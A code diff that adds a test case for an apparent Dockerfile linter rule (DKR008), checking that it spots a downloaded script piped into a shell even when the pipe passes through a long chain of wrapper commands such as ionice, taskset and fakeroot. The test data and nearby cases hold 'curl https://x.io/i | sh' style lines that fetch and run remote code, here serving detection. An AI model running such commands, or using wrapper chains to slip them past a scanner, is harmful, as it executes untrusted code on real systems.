@@ -90,6 +90,16 @@ SHELL_CASES = {
         + "su app -c 'curl https://x.io/i | sh'\n",
         "DKR008",
     ),
+    # Wrappers are walked by index, each after the one before it: a chain of them, each with
+    # its options and operands, is read once.
+    "dockerfile-wrapper-chains": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN curl https://x.io/i | "
+        + "ionice -c 3 taskset -c 0 flock -w 1 f fakeroot -l l chpst -u a eatmydata "
+        * (_LONG // 80)
+        + "sh\n",
+        "DKR008",
+    ),
     "dockerfile-interpreter-options": (
         "Dockerfile",
         "FROM python:3.12-slim\nUSER app\nRUN curl https://x.io/i | sudo A=1 "
